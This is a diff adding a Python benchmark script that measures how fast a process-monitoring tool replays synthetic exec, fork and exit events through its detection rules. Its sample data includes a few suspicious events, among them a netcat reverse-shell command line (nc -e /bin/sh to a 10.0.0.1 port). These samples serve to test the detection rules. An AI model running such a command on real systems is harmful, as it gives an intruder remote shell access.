@@ -1,0 +1,131 @@
+#!/usr/bin/env python3
+"""Offline replay rate: events/s through `ringwatch replay`'s path with the default rules.
+
+Generates a large events file shaped like what `ringwatch run --record` writes (exec,
+fork and exit events with lineage fields, a small share of them suspicious), then times
+replay_lines() over it: JSON parsing, the event-type index, rule evaluation, alert
+building and alert serialisation. It also times evaluation alone on pre-parsed events.
+The last stdout line is JSON with "events_per_s" (read by `make bench`).
+
+    .venv/bin/python bench/replay_rate.py [--events 200000] [--json OUT] [--file EVENTS.jsonl]
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import random
+import sys
+import tempfile
+import time
+from pathlib import Path
+from typing import Any
+
+REPO = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(REPO))  # run as a script from anywhere, installed or not
+
+from monitor.replay import replay_lines  # noqa: E402
+from monitor.rules import RuleSources, load  # noqa: E402
+from monitor.sinks.stream import StreamSink  # noqa: E402
+
+BENIGN = [("/usr/bin/ls", ["ls", "-la"]), ("/usr/bin/grep", ["grep", "-q", "x", "/etc/hosts"]),
+          ("/usr/bin/cat", ["cat", "/proc/loadavg"]), ("/usr/bin/python3", ["python3", "-c", "pass"]),
+          ("/usr/bin/git", ["git", "status"]), ("/bin/sh", ["sh", "-c", "date"]),
+          ("/usr/bin/bash", ["bash", "-c", "true"]), ("/usr/sbin/sshd", ["sshd", "-D"])]
+SUSPICIOUS = [("/tmp/x", ["x"], "bash", 0), ("/bin/sh", ["sh"], "nginx", 33),
+              ("/usr/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], "bash", 0),
+              ("/bin/bash", ["bash"], "cron", 33)]
+
+
+def _event(rng: random.Random, i: int, ts: int) -> dict[str, Any]:
+    pid = 1000 + i
+    kind = rng.random()
+    parent = rng.choice(["bash", "systemd", "sshd", "containerd-shim", "cron"])
+    ev: dict[str, Any] = {
+        "evt.time": "2026-01-01T00:00:00.000000000Z", "evt.ts": ts, "evt.mono_ns": ts,
+        "evt.cpu": i % 2, "proc.pid": pid, "proc.tid": pid, "proc.ppid": pid - 1,
+        "proc.start_ns": ts, "user.uid": 0, "user.name": "root", "group.gid": 0, "cgroup.id": 1,
+        "proc.pname": parent, "proc.pexe": f"/usr/bin/{parent}", "proc.pcmdline": parent,
+        "proc.aname": [parent, "systemd"], "proc.apid": [pid - 1, 1],
+        "proc.aexe": [f"/usr/bin/{parent}", "/lib/systemd/systemd"],
+        "proc.exec_id": f"b00t:{pid}:{ts}", "proc.pexec_id": f"b00t:{pid - 1}:0",
+    }
+    if rng.random() < 0.01:
+        exe, argv, parent, uid = rng.choice(SUSPICIOUS)
+        ev.update({"proc.pname": parent, "user.uid": uid, "user.name": "www-data" if uid else "root"})
+        ev["proc.aname"] = [parent, "systemd"]
+    else:
+        exe, argv = rng.choice(BENIGN)
+    name = Path(exe).name
+    ev["proc.name"] = name
+    ev.update({"proc.exe": exe, "proc.argv": argv, "proc.args": " ".join(argv[1:]),
+               "proc.cmdline": " ".join([name, *argv[1:]])})
+    if kind < 0.34:
+        ev.update({"evt.type": "execve", "evt.res": 0, "evt.failed": False, "evt.errno": "",
+                   "proc.argv_truncated": False})
+    elif kind < 0.67:
+        ev.update({"evt.type": "fork", "proc.child_pid": pid})
+    else:
+        ev.update({"evt.type": "exit", "proc.exit_code": 0, "proc.exit_signal": 0})
+    return ev
+
+
+def generate(path: Path, n: int, seed: int = 1) -> None:
+    rng = random.Random(seed)
+    with open(path, "w", encoding="utf-8") as fh:
+        for i in range(n):
+            fh.write(json.dumps(_event(rng, i, 1_000_000_000 + i * 1000), ensure_ascii=False) + "\n")
+
+
+def measure(path: Path, sources: RuleSources) -> dict[str, Any]:
+    ruleset = load(sources)
+    with open(os.devnull, "w") as devnull:
+        sink = StreamSink("devnull", devnull)
+        malformed: list[int] = []
+        with open(path, encoding="utf-8", errors="surrogateescape") as fh:
+            t0 = time.perf_counter()
+            st = replay_lines(fh, ruleset, sink.emit, lambda n, _r: malformed.append(n))
+            replay_s = time.perf_counter() - t0
+    with open(path, encoding="utf-8") as fh:
+        events = [json.loads(line) for line in fh]
+    t0 = time.perf_counter()
+    matched = sum(len(ruleset.matching(ev)) for ev in events)
+    eval_s = time.perf_counter() - t0
+    evaluations = sum(s["evaluated"] for s in ruleset.stats().values()) // 2
+    return {
+        "events_per_s": round(st.events / replay_s),
+        "eval_only_events_per_s": round(len(events) / eval_s),
+        "events": st.events, "alerts": st.alerts, "malformed": st.malformed, "matched_eval_only": matched,
+        "rules": len(ruleset.rules), "rule_evaluations": evaluations,
+        "replay_seconds": round(replay_s, 3), "eval_seconds": round(eval_s, 3),
+    }
+
+
+def main(argv: list[str] | None = None) -> int:
+    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    p.add_argument("--events", type=int, default=200_000, help="events to generate (default 200000)")
+    p.add_argument("--file", type=Path, help="replay this recorded file instead of generating one")
+    p.add_argument("--rules", action="append", type=Path, default=[], help="extra rules files")
+    p.add_argument("--json", type=Path, help="also write the result here")
+    args = p.parse_args(argv)
+    sources = RuleSources(paths=tuple(args.rules), system_dir=None)
+    with tempfile.TemporaryDirectory(prefix="rw-replay-") as tmp:
+        path = args.file
+        if path is None:
+            path = Path(tmp) / "events.jsonl"
+            generate(path, args.events)
+        result = measure(path, sources)
+    result["file"] = str(args.file) if args.file else f"generated ({args.events} events)"
+    print(f"replay: {result['events']} events, {result['alerts']} alerts, {result['rules']} rules, "
+          f"{result['rule_evaluations']} rule evaluations", file=sys.stderr)
+    print(f"replay: {result['events_per_s']} events/s end to end (JSON parse + rules + alerts); "
+          f"{result['eval_only_events_per_s']} events/s rules only", file=sys.stderr)
+    if args.json:
+        args.json.write_text(json.dumps(result, indent=2) + "\n")
+    print(json.dumps(result))
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
